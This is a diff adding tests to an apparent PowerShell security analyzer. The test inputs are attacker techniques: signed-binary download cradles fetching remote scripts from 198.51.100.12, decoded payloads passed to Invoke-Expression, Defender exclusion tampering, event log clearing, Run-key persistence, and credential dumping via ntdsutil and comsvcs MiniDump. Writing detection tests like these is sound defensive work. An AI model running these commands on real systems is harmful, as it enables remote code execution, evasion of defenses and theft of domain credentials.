@@ -134,3 +134,67 @@ def test_method_name_in_a_variable_computed_by_reversal_is_folded() -> None:
     """)
     assert lines_of(result, "PSDownloadCradle") == [3]
     assert lines_of(result, "PSObfuscatedCommandName") == [3]
+
+
+def test_decoded_payload_through_decompression_streams_reaches_execution() -> None:
+    result = analyze("""
+        $data = [System.Convert]::FromBase64String('H4sIAAAAAAAEAAtJLS5RSEvMKU4FAPkIpw8NAAAA')
+        $ms = New-Object System.IO.MemoryStream(, $data)
+        $gz = New-Object System.IO.Compression.GZipStream($ms, [System.IO.Compression.CompressionMode]::Decompress)
+        $reader = New-Object System.IO.StreamReader($gz)
+        $script = $reader.ReadToEnd()
+        Invoke-Expression $script
+    """)
+    assert lines_of(result, "PSDecodedExecution") == [1]
+
+
+def test_signed_binaries_running_remote_content_are_cradles() -> None:
+    result = analyze("""
+        regsvr32.exe /s /n /u /i:http://198.51.100.12/file.sct scrobj.dll
+        mshta.exe http://198.51.100.12/run.hta
+        msiexec /q /i https://198.51.100.12/a.msi
+        regsvr32.exe /s C:\\Windows\\System32\\local.dll
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]
+
+
+def test_set_mppreference_exclusion_is_defender_tampering() -> None:
+    result = analyze("Set-MpPreference -ExclusionExtension '.ps1'\nSet-MpPreference -SignatureUpdateInterval 4")
+    assert lines_of(result, "PSDefenderTampering") == [1]
+
+
+def test_event_log_object_cleared_through_a_variable() -> None:
+    result = analyze("$log = New-Object System.Diagnostics.EventLog('Security')\n$log.Clear()\n$list = @()\n$list.Clear()")
+    assert lines_of(result, "PSClearEventLog") == [2]
+
+
+def test_run_key_path_held_in_a_variable() -> None:
+    result = analyze("""
+        $run = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
+        New-ItemProperty -Path $run -Name 'Teams' -Value 'C:\\Users\\Public\\t.exe' -Force
+        $other = 'HKCU:\\Software\\Contoso'
+        New-ItemProperty -Path $other -Name 'Mode' -Value 1
+    """)
+    assert lines_of(result, "PSPersistenceRunKey") == [2]
+
+
+def test_ntdsutil_ifm_is_credential_dumping() -> None:
+    result = analyze('ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q\nntdsutil "metadata cleanup"')
+    assert lines_of(result, "PSCredentialDumping") == [1]
+
+
+def test_bare_word_after_a_quoted_string_in_a_command_list_parses() -> None:
+    result = analyze('& "$env:windir\\System32\\rundll32.exe" "$env:windir\\System32\\comsvcs.dll", MiniDump $id $dump full')
+    assert hits(result, "PSParseError") == []
+    assert lines_of(result, "PSCredentialDumping") == [1]
+
+
+def test_parameters_powershell_7_added_are_compatibility_notes() -> None:
+    result = analyze("""
+        Invoke-RestMethod -Uri $uri -SkipHttpErrorCheck -StatusCodeVariable status
+        $items | ConvertTo-Json -AsArray
+        Get-Content -Path $file -AsByteStream
+        Invoke-RestMethod -Uri $uri -Method Get
+    """)
+    assert lines_of(result, "PSCompatibilityPowerShell7Parameter") == [1, 2, 3]
+    assert {f.rule for f in hits(result, "PSCompatibilityPowerShell7Parameter")} == {"PSUseCompatibleCommands"}
